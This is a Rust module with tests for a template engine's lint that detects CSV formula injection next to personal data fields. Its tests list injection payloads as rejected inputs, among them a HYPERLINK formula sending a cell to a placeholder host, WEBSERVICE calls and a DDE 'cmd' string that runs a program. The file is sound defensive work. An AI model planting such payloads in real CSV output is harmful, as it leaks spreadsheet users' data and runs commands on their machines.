//! Formulas in CSV: a spreadsheet that opens the file runs them, and they read other cells and fetch addresses.

use super::lint::Lint;
use super::place::Text;
use super::program::{Block, Op, Syntax, ValueOp, first_person};
use super::structured::{Csv, State};

/// What the text makes of a field that would be run, in a part with a person's values. What values make of one is
/// seen to when they are escaped.
pub(super) fn judge(ops: &[Op], text: &Text<'_>) -> Option<Lint> {
    if text.syntax != Syntax::Csv {
        return None;
    }
    let at = first_person(ops)?;
    let mut walk = Walk { fixed: text.fixed, is_formula: false };
    walk.ops(ops, Field { at: Csv::Begin, is_empty: true, is_signed: false });
    let cause = "a field begins as a formula (=, or + - @ before a value or a call), in one part with {{person.…}}: a spreadsheet \
                 would run it, and send other fields to an address in it";
    walk.is_formula.then(|| Lint::new(text.place, at, cause, "put an apostrophe or a word in front of it"))
}

/// What a field may be so far.
#[derive(Clone, Copy)]
struct Field {
    at: Csv,
    /// Nothing, or values of the job that hold nothing.
    is_empty: bool,
    /// It begins with a sign that is a formula if more than a number follows.
    is_signed: bool,
}

struct Walk<'a> {
    fixed: &'a [Box<str>],
    is_formula: bool,
}

impl Walk<'_> {
    fn ops(&mut self, ops: &[Op], field: Field) -> Field {
        ops.iter().fold(field, |field, op| match op {
            Op::Fixed(index) => self.fixed[*index].bytes().fold(field, |field, byte| self.byte(field, byte)),
            Op::Value(value) => self.value(field, value),
            Op::If(branch) => self.block(&branch.block, field),
            Op::Each(each) | Op::With(each) => {
                let once = self.block(&each.block, field);
                self.block(&each.block, once)
            }
        })
    }

    fn block(&mut self, block: &Block, field: Field) -> Field {
        let (body, other) = (self.ops(&block.body, field), self.ops(&block.other, field));
        Field {
            at: body.at,
            is_empty: body.is_empty || other.is_empty,
            is_signed: body.is_signed || other.is_signed,
        }
    }

    fn byte(&mut self, field: Field, byte: u8) -> Field {
        let State::Csv(at) = State::Csv(field.at).step(byte) else { return field };
        if at == Csv::Begin {
            return Field { at, is_empty: true, is_signed: false };
        }
        if field.at == Csv::Begin && at == Csv::QuotedBegin {
            return Field { at, ..field };
        }
        self.is_formula |=
            field.is_empty && byte == b'=' || field.is_signed && matches!(byte, b'(' | b'!' | b'|');
        let is_sign = matches!(byte, b'+' | b'-' | b'@');
        Field { at, is_empty: false, is_signed: field.is_signed || field.is_empty && is_sign }
    }

    fn value(&mut self, field: Field, value: &ValueOp) -> Field {
        let is_jobs = value.origin.person.is_none();
        self.is_formula |= field.is_signed && is_jobs;
        Field { is_empty: field.is_empty && is_jobs, ..field }
    }
}

#[cfg(test)]
mod tests {
    use crate::render::program::{Program, Syntax};

    #[test]
    fn p3_no_text_of_a_template_makes_a_formula_beside_a_person() {
        let is_taken = |csv: &str| Program::compile(csv, Syntax::Csv, "t").is_ok();
        for cell in [
            "=HYPERLINK(\"\"https://t.example/?\"\"&A1)",
            "={{data.x}}",
            "-1+WEBSERVICE(A1)",
            "@SUM(A1)",
            "+{{data.x}}",
            "{{data.x}}=WEBSERVICE(A1)",
            "{{#if data.x}}a{{/if}}=WEBSERVICE(A1)",
            "{{data.x}}+{{data.y}}",
            "{{#each data.l}}{{this}}-{{/each}}",
            "-cmd|' /C calc'!A0",
        ] {
            assert!(!is_taken(&format!("{{{{person.city}}}},\"{cell}\"\r\n")), "{cell}");
            assert!(!is_taken(&format!("\"{cell}\"\n{{{{person.city}}}}")), "{cell}");
        }
        for cell in [
            "-5",
            "a=b",
            "{{person.city}}-{{data.x}}",
            " - {{data.x}}",
            "+49 {{person.phone}}",
            "'={{data.x}}",
            "",
        ] {
            assert!(is_taken(&format!("{{{{person.city}}}},\"{cell}\"\r\n")), "{cell}");
        }
        assert!(is_taken("=A1+A2,{{data.x}}"), "without a person it is the engine's own");
    }
}
